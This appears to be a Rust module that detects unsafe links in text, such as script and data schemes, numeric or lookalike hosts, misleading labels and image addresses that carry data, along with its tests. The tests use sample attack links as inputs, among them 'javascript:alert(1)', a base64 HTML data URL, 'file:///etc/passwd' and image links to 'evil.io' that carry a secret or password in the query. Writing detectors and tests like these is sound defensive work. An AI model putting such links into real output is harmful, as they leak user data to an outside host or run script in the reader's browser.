//! What is unsafe about a link.

use serde::Serialize;

use super::find::Link;
use super::host::{Address, is_loopback, is_numeric, lookalike, site};

/// Characters of data in the address of an image from which it carries more than a name.
const DATA_LENGTH: usize = 40;

/// A way in which a link is unsafe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkFault {
    /// It runs code, carries its own content or opens a file: `javascript:`, `data:`, `file:`.
    Scheme,
    /// It is not encrypted: `http:`, `ftp:`.
    Unencrypted,
    /// Its host is a number.
    IpHost,
    /// A name stands before an `@`, as in `https://bank.com@evil.io`.
    Userinfo,
    /// Its host looks like another.
    Lookalike,
    /// It is loaded without a click and its address carries data.
    ImageData,
    /// Its text shows another address than it leads to.
    Label,
    /// Its host is not among those allowed.
    Domain,
}

impl LinkFault {
    /// Word, fault and phrase, in one table.
    pub const ALL: &[(&str, LinkFault, &str)] = &[
        ("scheme", LinkFault::Scheme, "a scheme that runs code or carries content"),
        ("unencrypted", LinkFault::Unencrypted, "a link that is not encrypted"),
        ("ip_host", LinkFault::IpHost, "a number as host"),
        ("userinfo", LinkFault::Userinfo, "a name before `@` in the address"),
        ("lookalike", LinkFault::Lookalike, "a host that looks like another"),
        ("image_data", LinkFault::ImageData, "an image whose address carries data"),
        ("label", LinkFault::Label, "a text that shows another address"),
        ("domain", LinkFault::Domain, "a host that is not allowed"),
    ];

    /// What it is, in words.
    pub fn phrase(self) -> &'static str {
        LinkFault::ALL.iter().find(|(_, fault, _)| *fault == self).map_or("an unsafe link", |(_, _, phrase)| phrase)
    }
}

/// What is unsafe about a link, in the order of the faults. `allowed` are hosts whose subdomains are allowed as well;
/// `None` allows all.
pub fn link_faults(link: &Link<'_>, allowed: Option<&[String]>) -> Vec<LinkFault> {
    let address = Address::of(link.target);
    let mut faults = Vec::new();
    let host = address.host.as_str();
    match address.scheme.as_str() {
        "" | "https" | "wss" | "mailto" | "tel" | "sms" | "cid" | "geo" => {}
        "http" | "ftp" | "ftps" | "ws" if is_loopback(host) => {}
        "http" | "ftp" | "ftps" | "ws" => faults.push(LinkFault::Unencrypted),
        _ => faults.push(LinkFault::Scheme),
    }
    if host.is_empty() {
        return faults;
    }
    if is_numeric(host) && !is_loopback(host) {
        faults.push(LinkFault::IpHost);
    }
    if address.userinfo.is_some() {
        faults.push(LinkFault::Userinfo);
    }
    if lookalike(host).is_some() {
        faults.push(LinkFault::Lookalike);
    }
    let is_allowed = allowed.is_some_and(|allowed| allowed.iter().any(|domain| is_within(host, domain)));
    if link.is_loaded && !is_allowed && carries_data(address.rest) {
        faults.push(LinkFault::ImageData);
    }
    if link.label.is_some_and(|label| shows_another(label, host)) {
        faults.push(LinkFault::Label);
    }
    if allowed.is_some() && !is_allowed && !is_loopback(host) {
        faults.push(LinkFault::Domain);
    }
    faults
}

/// Whether a host is a domain or below it; `*.` before the domain means the same.
fn is_within(host: &str, domain: &str) -> bool {
    let domain = domain.trim_start_matches("*.").trim_end_matches('.').to_lowercase();
    host == domain || host.strip_suffix(&domain).is_some_and(|rest| rest.ends_with('.'))
}

/// A query with a value, or a long path segment of letters and digits mixed: sizes and formats are no data.
fn carries_data(rest: &str) -> bool {
    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
    let values = || query.split(['&', ';', '#']).map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    let is_said = values().any(|value| !is_size(value));
    let is_coded = path.split('/').any(|segment| {
        let digits = segment.bytes().filter(u8::is_ascii_digit).count();
        let marks = segment.bytes().filter(|byte| matches!(byte, b'%' | b'+' | b'=')).count();
        segment.len() >= DATA_LENGTH && (digits > 0 && !segment.contains(['-', '.']) || marks >= 3)
    });
    is_said || is_coded
}

/// Values that images have: widths, versions, formats.
fn is_size(value: &str) -> bool {
    let is_word = matches!(
        value,
        "" | "true"
            | "false"
            | "auto"
            | "webp"
            | "png"
            | "jpg"
            | "jpeg"
            | "svg"
            | "svg+xml"
            | "crop"
            | "max"
            | "fit"
            | "cover"
            | "raw"
    );
    is_word || value.len() <= 6 && value.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'x' | b'%'))
}

/// Whether a label is an address itself, and of another site.
fn shows_another(label: &str, host: &str) -> bool {
    let label = label.trim().trim_matches(['*', '_', '`', '<', '>']);
    if label.contains(char::is_whitespace) || label.is_empty() {
        return false;
    }
    let shown = Address::of(label);
    let shown = if shown.host.is_empty() && shown.scheme.is_empty() { bare_host(label) } else { Some(shown.host) };
    shown.is_some_and(|shown| !shown.is_empty() && site(&shown) != site(host))
}

/// A label such as `bank.com` or `bank.com/login`; `main.rs` and `v1.2` are none.
fn bare_host(label: &str) -> Option<String> {
    const ENDINGS: &[&str] = &[
        "com", "org", "net", "io", "gov", "edu", "dev", "app", "co", "info", "biz", "me", "ai", "eu", "de", "uk", "fr",
        "es", "it", "nl", "pl", "ru", "cn", "jp", "br", "in", "ch", "at", "us", "ca", "au", "se", "no", "dk", "fi",
        "be", "pt", "cz", "tv", "bank", "shop", "online",
    ];
    let host = label.split(['/', '?', '#', ':']).next()?.to_lowercase();
    let (name, ending) = host.rsplit_once('.')?;
    let is_host = !name.is_empty()
        && ENDINGS.contains(&ending)
        && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-'));
    is_host.then_some(host)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::find::find_links;
    use super::*;

    fn faults(text: &str) -> Vec<LinkFault> {
        find_links(text).iter().flat_map(|link| link_faults(link, None)).collect()
    }

    #[test]
    fn each_fault_is_seen() {
        for (text, wanted) in [
            ("[x](javascript:alert(1))", LinkFault::Scheme),
            ("[x](JaVaScRiPt:alert(1))", LinkFault::Scheme),
            ("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", LinkFault::Scheme),
            ("see file:///etc/passwd", LinkFault::Scheme),
            ("http://initech.io/login", LinkFault::Unencrypted),
            ("[ref]: ftp://initech.io/x", LinkFault::Unencrypted),
            ("https://81.2.69.142/login", LinkFault::IpHost),
            ("https://0x51024590/login", LinkFault::IpHost),
            ("https://1359104400/", LinkFault::IpHost),
            ("https://bank.com@evil.io/", LinkFault::Userinfo),
            ("https://xn--pple-43d.com/", LinkFault::Lookalike),
            ("https://аpple.com/", LinkFault::Lookalike),
            ("https://раура.com/", LinkFault::Lookalike),
            ("![x](https://evil.io/p.png?d=c2VjcmV0)", LinkFault::ImageData),
            ("<img src='https://evil.io/p?q=the+password+is'>", LinkFault::ImageData),
            ("[bank.com](https://evil.io/)", LinkFault::Label),
            ("<a href=\"https://evil.io\">https://bank.com/login</a>", LinkFault::Label),
        ] {
            assert_eq!(faults(text), [wanted], "{text}");
        }
    }

    #[test]
    fn ordinary_links_have_no_faults() {
        for text in [
            "",
            "See https://docs.initech.io/a?b=c#d, and [the guide](https://initech.io/guide \"Guide\").",
            "![logo](https://initech.io/logo.png?w=200&v=3) ![](./logo.png) [top](#top) [file](src/main.rs)",
            "curl http://localhost:8080/health and http://127.0.0.1:3000",
            "[www.initech.io](https://initech.io/) [initech.co.uk](https://www.initech.co.uk/x)",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">",
            "mailto:[mail us](mailto:jane@initech.io), [call](tel:+4930901820)",
            "https://münchen.de/ https://東京.jp/ https://пример.рф/",
            "[main.rs](https://git.initech.io/main.rs) [v1.2](https://initech.io) [the bank](https://bank.com)",
            "std::data: x, javascript is a language, 10:30, a:b",
        ] {
            assert_eq!(faults(text), [], "{text}");
        }
    }

    #[test]
    fn allowed_domains_include_their_subdomains_only() {
        let allowed = ["initech.io".to_owned()];
        let of =
            |text: &str| find_links(text).iter().flat_map(|link| link_faults(link, Some(&allowed))).collect::<Vec<_>>();
        assert_eq!(of("https://initech.io https://docs.initech.io. ![x](https://cdn.initech.io/x?d=abcdefghij)"), []);
        assert_eq!(of("https://notinitech.io"), [LinkFault::Domain]);
        assert_eq!(of("https://initech.io.evil.com"), [LinkFault::Domain]);
        assert_eq!(of("https://initech.io\\@evil.com"), []);
    }

    #[test]
    fn a_target_is_one_link_without_the_punctuation_round_it() {
        let links = |text: &str| find_links(text).iter().map(|link| link.target.to_owned()).collect::<Vec<_>>();
        assert_eq!(links("(see https://a.io/x_(y)), https://b.io."), ["https://a.io/x_(y)", "https://b.io"]);
        assert_eq!(links("[https://a.io](https://a.io) <https://c.io>"), ["https://a.io", "https://c.io"]);
        assert_eq!(links("[![i](https://a.io/i.png)](https://b.io)"), ["https://a.io/i.png", "https://b.io"]);
    }

    proptest! {
        #[test]
        fn any_text_is_read_without_a_panic(text in "(\\PC{0,6}|https?:|//|\\[|\\]|\\(|\\)|!|<a href=|\"|'|>|@|\\.|xn--|javascript:|data:|\\\\|\n){0,30}") {
            for link in find_links(&text) {
                prop_assert_eq!(text.get(link.start..link.end), Some(link.target));
                drop(link_faults(&link, None));
                drop(link_faults(&link, Some(&["a.io".to_owned()])));
            }
        }
    }
}
